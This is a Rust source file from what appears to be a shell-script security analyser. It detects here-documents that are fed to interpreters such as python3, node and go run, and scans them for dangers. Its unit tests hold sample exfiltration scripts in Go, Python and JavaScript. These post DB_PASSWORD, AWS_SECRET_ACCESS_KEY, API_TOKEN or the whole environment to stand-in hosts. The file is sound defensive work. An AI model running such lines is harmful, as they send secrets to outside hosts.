//! Code fed to an interpreter on its standard input: `python3 - <<'EOF'`, `node <<EOF`,
//! `go run - <<EOF`, `cat <<EOF | ruby`. The here-document is a script of that language,
//! read as one is when shipped (its secrets, sends and decoded code), at its place.

use super::super::statements::{RedirectKind, Stage};
use super::script::{Language, script_dangers};
use super::unit::Unit;
use super::{Danger, MAX_DANGERS};

/// The dangers of every here-document `script` feeds an interpreter.
pub(super) fn check(script: &str, unit: &Unit, out: &mut Vec<Danger>) {
    for placed in &unit.placed {
        let stages = &placed.statement.stages;
        for (i, stage) in stages.iter().enumerate() {
            let Some(lang) = reads_stdin(stage) else {
                continue;
            };
            // Its own here-document, or the one a `cat` before it in the pipeline prints.
            let fed = std::iter::once(stage).chain(
                i.checked_sub(1)
                    .and_then(|p| stages.get(p))
                    .filter(|s| s.program().as_deref() == Some("cat") && s.args().is_empty()),
            );
            for from in fed {
                for r in &from.redirects {
                    let Some(body) = r.body.filter(|_| r.kind == RedirectKind::HereDoc) else {
                        continue;
                    };
                    let Some(code) = script.get(body.start..body.end) else {
                        continue;
                    };
                    for mut d in script_dangers(code, lang) {
                        if out.len() >= MAX_DANGERS {
                            return;
                        }
                        d.start += body.start;
                        d.end += body.start;
                        if let Some(r) = &mut d.related {
                            r.start += body.start;
                            r.end += body.start;
                        }
                        out.push(d);
                    }
                }
            }
        }
    }
}

/// The language of the script a command reads from its standard input: an interpreter
/// given no script file, or `-` for one (`python3 -u -`, `go run -`).
fn reads_stdin(stage: &Stage) -> Option<Language> {
    let program = stage.program()?;
    let args = stage.args();
    let (lang, args) = match program.as_str() {
        p if p.starts_with("python") && p[6..].bytes().all(|b| b.is_ascii_digit() || b == b'.') => {
            (Language::Python, args)
        }
        "node" | "nodejs" | "bun" => (Language::JavaScript, args),
        "deno" if args.first().is_some_and(|a| a.text == "run") => {
            (Language::JavaScript, &args[1..])
        }
        "go" if args.first().is_some_and(|a| a.text == "run") => (Language::Other, &args[1..]),
        "ruby" | "perl" | "php" => (Language::Other, args),
        _ => return None,
    };
    // An inline script (`-c`, `-e`) or a module is read elsewhere; a file is not stdin.
    let first = args
        .iter()
        .find(|a| a.text == "-" || !a.text.starts_with('-') || is_inline_flag(&a.text));
    match first {
        None => Some(lang),
        Some(a) if a.text == "-" => Some(lang),
        Some(_) => None,
    }
}

/// Flags after which the next word is the code or module run, not standard input.
fn is_inline_flag(flag: &str) -> bool {
    matches!(
        flag,
        "-c" | "-m" | "-e" | "-E" | "-r" | "--eval" | "-p" | "--print"
    )
}

#[cfg(test)]
mod tests {
    use super::super::{DangerKind, dangers};
    use crate::analysis::shell::Dialect;

    fn kinds(script: &str) -> Vec<DangerKind> {
        dangers(script, Dialect::Posix)
            .into_iter()
            .map(|d| d.kind)
            .collect()
    }

    #[test]
    fn a_heredoc_fed_to_an_interpreter_is_read_in_its_language() {
        let go = "go run - <<'EOF'\npackage main\nimport (\"net/http\";\"os\";\"strings\")\nfunc main(){ http.Post(\"http://ping-stats.click/p\",\"text/plain\",strings.NewReader(os.Getenv(\"DB_PASSWORD\"))) }\nEOF\n";
        assert!(kinds(go).contains(&DangerKind::Exfiltration), "{go}");
        let py = "python3 - <<EOF\nimport os, requests\nrequests.post('https://hook.example.top/c', data=os.environ['AWS_SECRET_ACCESS_KEY'])\nEOF\n";
        assert!(kinds(py).contains(&DangerKind::Exfiltration), "{py}");
        let piped = "cat <<'JS' | node -\nfetch('https://collect.example.top/x', {method: 'POST', body: JSON.stringify(process.env)})\nJS\n";
        assert!(kinds(piped).contains(&DangerKind::Exfiltration), "{piped}");
    }

    #[test]
    fn a_heredoc_that_sends_nothing_secret_is_quiet() {
        // The same shapes doing ordinary work: a version check, a request without secrets.
        let go = "go run - <<'EOF'\npackage main\nimport \"fmt\"\nfunc main(){ fmt.Println(\"ok\") }\nEOF\n";
        assert!(kinds(go).is_empty());
        let py = "python3 - <<EOF\nimport json, sys\nprint(json.load(open('package.json'))['version'])\nEOF\n";
        assert!(kinds(py).is_empty());
        // A script file given: its heredoc is data, not the script.
        let file = "python3 tool.py <<EOF\nimport os; requests.post('https://x.example.top', data=os.environ['API_TOKEN'])\nEOF\n";
        assert!(!kinds(file).contains(&DangerKind::Exfiltration));
    }
}
